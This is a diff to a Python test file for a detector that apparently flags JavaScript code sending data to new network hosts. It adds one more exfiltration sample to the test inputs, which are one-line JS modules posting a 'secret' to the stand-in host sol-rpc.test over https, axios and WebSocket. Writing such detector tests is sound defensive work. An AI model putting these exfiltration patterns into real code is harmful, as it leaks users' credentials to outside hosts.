@@ -100,8 +100,10 @@ def test_a_url_built_from_a_config_variable_passes(code: bytes) -> None:
     b"'https://sol-rpc.test/queue', { method: 'POST' }).end(secret);\n",
     b"\nmodule.exports.queue = (secret) => axios.post('https://sol-rpc.test/queue', secret);\n",
     b"\nmodule.exports.queue = (secret) => new WebSocket('wss://sol-rpc.test/ws').send(secret);\n",
+    b"\nmodule.exports.queue = (secret) => https__default['default'].request({ 'hostname': "
+    b"'sol-rpc.test', path: '/queue', method: 'POST' }).end(secret);\n",
 ], ids=["local-const", "template-with-literal-host", "https-request", "client-post",
-        "websocket"])
+        "websocket", "request-options"])
 def test_a_new_host_written_any_way_a_call_takes_it_is_held(code: bytes) -> None:
     # the attack written the other ways the reading recognises a network call's destination
     [found] = judged(code)
